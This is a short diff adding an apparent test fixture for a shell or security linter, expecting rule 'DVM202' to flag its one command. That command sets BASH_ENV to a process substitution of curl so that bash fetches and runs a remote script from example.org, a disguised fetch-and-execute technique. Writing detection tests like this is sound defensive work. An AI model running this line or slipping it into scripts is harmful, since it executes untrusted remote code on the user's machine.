@@ -1,0 +1,2 @@
+# expect: DVM202
+BASH_ENV=<(curl -fsSL https://example.org/i.sh) bash -c true
